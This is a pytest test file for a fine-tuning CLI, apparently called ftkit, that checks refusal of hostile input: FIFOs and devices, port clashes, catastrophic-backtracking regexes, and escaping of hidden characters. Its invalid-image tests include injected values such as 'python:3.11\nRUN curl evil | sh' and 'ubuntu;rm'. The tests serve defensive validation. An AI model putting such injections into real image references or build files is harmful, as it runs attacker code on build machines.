"""Hostile input beyond the broken-recipe corpus: special files (never opened, never a hang),
machine-specific checks (ports held by the serving service, unwritable run directories), the
regex screen, image references and images.lock.json, and the escaping helper the plan
printer uses."""

from __future__ import annotations

import json
import os
import re
import shutil
import time
from pathlib import Path

import pytest

from ftkit.errors import ConfigError, UserError
from ftkit.recipe import checks
from ftkit.recipe.imagerefs import lock_problems, reference_problem
from tests.conftest import FIXTURES, require, run_cli

LINE_RE = re.compile(r"^(?P<file>[^:]+):(?P<line>\d+):(?P<col>\d+): (?P<path>\S+): (?P<msg>.+)$")
RECIPE = """ftkit: 1
name: demo
model:
  tiny: {}
dataset:
  path: data.jsonl
  format: alpaca
  eval: {size: 2}
steps:
  - type: train
    max_steps: 5
"""


def workdir(tmp_path: Path, recipe: str = RECIPE) -> Path:
    work = tmp_path / "w"
    work.mkdir()
    shutil.copy(FIXTURES / "broken" / "data.jsonl", work / "data.jsonl")
    with open(work / "data.jsonl", "a") as fh:  # enough rows for the eval split and a batch
        fh.writelines(json.dumps({"instruction": f"i{n}", "output": f"o{n}"}) + "\n" for n in range(8))
    (work / "recipe.yaml").write_text(recipe)
    return work


def refused(result, words: str) -> str:  # type: ignore[no-untyped-def]
    assert result.code == 2, (result.code, result.out, result.err)
    assert "Traceback" not in result.err
    lines = [ln for ln in result.err.splitlines() if ln.strip()]
    assert lines and all(LINE_RE.match(ln) for ln in lines), lines
    assert words.lower() in result.err.lower(), result.err
    return result.err


# --------------------------------------------------------------------------- special files


@pytest.mark.timeout(30)
def test_a_fifo_recipe_is_refused_without_blocking(tmp_path: Path) -> None:
    fifo = tmp_path / "recipe.yaml"
    os.mkfifo(fifo)
    t0 = time.monotonic()
    refused(run_cli("validate", str(fifo)), "FIFO")
    assert time.monotonic() - t0 < 10


@pytest.mark.timeout(30)
def test_a_device_is_not_a_recipe() -> None:
    refused(run_cli("validate", "/dev/zero"), "character device")


@pytest.mark.timeout(30)
def test_a_fifo_machine_profile_is_refused(tmp_path: Path) -> None:
    fifo = tmp_path / "m.yaml"
    os.mkfifo(fifo)
    refused(run_cli("validate", str(FIXTURES.parent.parent / "recipes" / "quickstart.yaml"), "--machine", str(fifo)),
            "FIFO")


@pytest.mark.timeout(30)
@pytest.mark.parametrize("field,recipe", [
    ("dataset.path", RECIPE.replace("path: data.jsonl", "path: pipe")),
    ("dataset.eval.path", RECIPE.replace("eval: {size: 2}", "eval: {path: pipe}")),
    ("dataset.template", RECIPE.replace("  format: alpaca\n", "  format: alpaca\n  template: pipe.jinja\n")),
    ("images.lock", RECIPE.replace("steps:\n", "images: {lock: pipe}\nsteps:\n")),
    ("steps[1].path", RECIPE + "  - type: eval\n    models: [base, adapter]\n    path: pipe\n"),
])
def test_fifo_inputs_are_refused_without_opening_them(tmp_path: Path, field: str, recipe: str) -> None:
    work = workdir(tmp_path, recipe)
    os.mkfifo(work / "pipe")
    os.mkfifo(work / "pipe.jinja")
    t0 = time.monotonic()
    err = refused(run_cli("validate", "recipe.yaml", cwd=work), "FIFO")
    assert f": {field}: " in err
    assert time.monotonic() - t0 < 10


def test_a_dataset_linking_to_a_device_is_refused(tmp_path: Path) -> None:
    work = workdir(tmp_path, RECIPE.replace("path: data.jsonl", "path: zero.jsonl"))
    os.symlink("/dev/zero", work / "zero.jsonl")
    refused(run_cli("validate", "recipe.yaml", cwd=work), "character device")


def test_a_broken_symlink_is_named(tmp_path: Path) -> None:
    work = workdir(tmp_path, RECIPE.replace("path: data.jsonl", "path: gone.jsonl"))
    os.symlink(tmp_path / "nowhere", work / "gone.jsonl")
    refused(run_cli("validate", "recipe.yaml", cwd=work), "broken symbolic link")


def test_a_machine_dataset_that_is_a_fifo_is_refused_at_plan_time(tmp_path: Path) -> None:
    data = tmp_path / "datasets"
    data.mkdir()
    os.mkfifo(data / "train.jsonl")
    work = workdir(tmp_path, RECIPE.replace("path: data.jsonl", "path: ${datasets}/train.jsonl"))
    machine = tmp_path / "m.yaml"
    machine.write_text(f"ftkit: 1\nkind: machine\nname: m\nexecutor: local\npaths:\n  datasets: {data}\n")
    refused(run_cli("validate", "recipe.yaml", "--machine", str(machine), cwd=work), "FIFO")


# --------------------------------------------------------------------------- machine profiles


def test_an_unwritable_runs_directory_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    runs = tmp_path / "runs"
    runs.mkdir()
    machine = tmp_path / "m.yaml"
    machine.write_text(f"ftkit: 1\nkind: machine\nname: m\npaths:\n  runs: {runs}\n  lease: {runs}\n")
    monkeypatch.setattr(checks, "_writable", lambda p: False)  # root can write anywhere: pretend
    err = refused(run_cli("validate", str(machine)), "not writable")
    assert "paths.runs" in err and "paths.lease" in err


@pytest.mark.parametrize("address", ["0.0.0.0", "::1", "192.168.1.20", "127.0.0.1"])
def test_any_ip_literal_is_a_valid_bind_address(tmp_path: Path, address: str) -> None:
    machine = tmp_path / "m.yaml"
    machine.write_text(f"ftkit: 1\nkind: machine\nname: m\nbind_address: '{address}'\n")
    assert run_cli("validate", str(machine)).code == 0


SERVE_RECIPE = """ftkit: 1
name: demo
model:
  tiny: {}
dataset:
  path: data.jsonl
  format: alpaca
  eval: {size: 2}
steps:
  - type: train
    max_steps: 5
    gpus: GPUS
    distribution: DIST
  - type: merge
  - type: serve
    engine: transformers
    gpus: [0]
    port: 8000
"""
MACHINE = """ftkit: 1
kind: machine
name: m
executor: local
gpus:
  - {index: 0, model: RTX 4090}
  - {index: 1, model: RTX 4090}
serving: {service: vllm-main, gpus: [1], port: 8000}
"""


def test_a_serve_step_on_the_serving_services_port_is_refused(tmp_path: Path) -> None:
    work = workdir(tmp_path, SERVE_RECIPE.replace("GPUS", "[0]").replace("DIST", "single"))
    (tmp_path / "m.yaml").write_text(MACHINE)
    err = refused(run_cli("validate", "recipe.yaml", "--machine", str(tmp_path / "m.yaml"), cwd=work), "vllm-main")
    assert "steps[2].port" in err and "port 8000" in err


def test_the_port_is_free_when_the_plan_stops_the_service_first(tmp_path: Path) -> None:
    work = workdir(tmp_path, SERVE_RECIPE.replace("GPUS", "[0, 1]").replace("DIST", "ddp"))
    (tmp_path / "m.yaml").write_text(MACHINE)
    result = run_cli("validate", "recipe.yaml", "--machine", str(tmp_path / "m.yaml"), cwd=work)
    assert result.code == 0, result.err


# --------------------------------------------------------------------------- regular expressions

ACCEPTED = [r"^fruit$", r"\d+", r"(foo|bar)*", r"[a-z]+@[a-z]+\.com", r"(\d{1,3}\.){3}\d{1,3}", r"a++b", r"(?>a+)+",
            r"^(fruit|instrument|animal)\s*$", r".*fruit.*", r"\bcat\b"]
REFUSED = [r"(a+)+$", r"(a|ab)*c", r"(\w+\s?)+$", r"(a*)*", r"(x+x+)+y", r"^(\d+)-\1$", r".*a.*b.*c.*d",
           r"(.*a){12}", r"(x{1,3}){1,1000}", r"(x\w|\wy)*!", "(", "a" * 1001]


@pytest.mark.parametrize("pattern", REFUSED)
def test_dangerous_or_broken_patterns_are_refused(pattern: str) -> None:
    assert checks.regex_problem(pattern)


@pytest.mark.parametrize("pattern", ACCEPTED)
def test_accepted_patterns_finish_quickly_on_adversarial_answers(pattern: str) -> None:
    assert checks.regex_problem(pattern) is None
    compiled = re.compile(pattern)
    for text in ("a" * 5000 + "!", "x" * 5000, "1." * 2500, " " * 5000 + "\x00", "fruit " * 800):
        t0 = time.perf_counter()
        compiled.search(text)
        assert time.perf_counter() - t0 < 0.5, (pattern, text[:10])


def test_the_regex_screen_never_raises() -> None:
    hypothesis = require("hypothesis")
    from hypothesis import given, settings
    from hypothesis import strategies as s

    atoms = s.sampled_from(["a", "b", ".", r"\d", r"\w", "[ab]", "[^a]", "(a|b)", "(a|ab)", "(?:x)", r"\1", "()"])
    quant = s.sampled_from(["", "*", "+", "?", "{2}", "{1,5}", "{3,}", "*?", "++", "{,2}"])
    piece = s.tuples(atoms, quant).map("".join)
    group = s.lists(piece, min_size=1, max_size=4).map(lambda p: "(" + "".join(p) + ")")
    pattern = s.lists(s.one_of(piece, s.tuples(group, quant).map("".join)), min_size=1, max_size=5).map("".join)

    @settings(max_examples=300, deadline=1000, derandomize=True, database=None)
    @given(pattern)
    def run(p: str) -> None:
        problem = checks.regex_problem(p)
        assert problem is None or isinstance(problem, str)
        if problem is None:  # an accepted pattern must not blow up on a short hostile text
            compiled = re.compile(p)
            t0 = time.perf_counter()
            compiled.search("ab" * 200 + "!")
            compiled.search("a" * 400 + "!")
            assert time.perf_counter() - t0 < 1.0, p

    assert hypothesis
    run()


# --------------------------------------------------------------------------- images


@pytest.mark.parametrize("ref", ["ftkit-test/bookworm-python:latest", "ftkit/train:cpu-0123456789ab", "python:3.11-slim",
                                 "localhost:5000/team/base:1", "registry.example.com/a/b@sha256:" + "a" * 64])
def test_valid_image_references(ref: str) -> None:
    assert reference_problem(ref) is None


@pytest.mark.parametrize("ref", ["python:3.11\nRUN curl evil | sh", "--privileged", "a b", "Ubuntu", "x:tag with space",
                                 "FROM python", "", "a" * 600, "x@sha256:zz", "ubuntu;rm", "ubuntu\x1b[2J"])
def test_invalid_image_references(ref: str) -> None:
    assert reference_problem(ref)


def test_build_refuses_a_base_image_that_is_not_a_reference() -> None:
    result = run_cli("build", "--base-image", "python:3.11\nRUN id", "--dry-run")
    assert result.code == 2
    assert "--base-image" in result.err and "Traceback" not in result.err


def test_images_lock_contents_are_checked(tmp_path: Path) -> None:
    from ftkit.images import imagelock

    good = {"version": 1, "images": {"train/cpu": {"tag": "ftkit/train:cpu-abc", "base": {"ref": "python:3.11"}}}}
    assert lock_problems(good) == []
    bad = {"version": 1, "images": {"train/cpu": {"tag": "ftkit/train:cpu\nRUN id"}, "nokey": {"tag": "x"}}}
    assert len(lock_problems(bad)) == 2
    assert lock_problems({"version": True, "images": {}})
    path = tmp_path / "images.lock.json"
    path.write_text(json.dumps(bad))
    with pytest.raises(UserError, match="not a usable images.lock.json"):
        imagelock.read(path)
    path.unlink()
    os.mkfifo(path)
    with pytest.raises(UserError, match="not a regular file|FIFO"):
        imagelock.read(path)


def test_a_recipe_lock_with_a_bad_tag_is_refused(tmp_path: Path) -> None:
    work = workdir(tmp_path, RECIPE.replace("steps:\n", "images: {lock: images.lock.json}\nsteps:\n"))
    (work / "images.lock.json").write_text(json.dumps({"version": 1, "images": {"serve/vllm": {"tag": "-it"}}}))
    refused(run_cli("validate", "recipe.yaml", cwd=work), "not a valid image name")


# --------------------------------------------------------------------------- helpers


def test_printable_escapes_everything_that_could_hide_text() -> None:
    assert checks.printable("a\nb\tc\rd") == "a\\nb\\tc\\rd"
    assert checks.printable("x\x1b[2Jy") == "x\\x1b[2Jy"
    assert checks.printable("safe\u202e--evil") == "safe\\u202e--evil"
    assert checks.printable("zero\u200bwidth") == "zero\\u200bwidth"
    assert checks.printable("back\\slash") == "back\\\\slash"
    assert checks.printable("plain text: ok / ümlaut") == "plain text: ok / ümlaut"


def test_every_message_is_one_line(tmp_path: Path) -> None:
    work = workdir(tmp_path, RECIPE + "    lora: {\"r\\nfake: 1\": 2}\n")
    err = refused(run_cli("validate", "recipe.yaml", cwd=work), "unknown key")
    assert len(err.strip().splitlines()) == 1


def test_dates_are_named_as_dates() -> None:
    from ftkit.recipe.yamlpos import loads

    with pytest.raises(ConfigError, match="reads as a date; quote it"):
        loads("ftkit: 1\nname: 2024-01-31\n", "x.yaml")
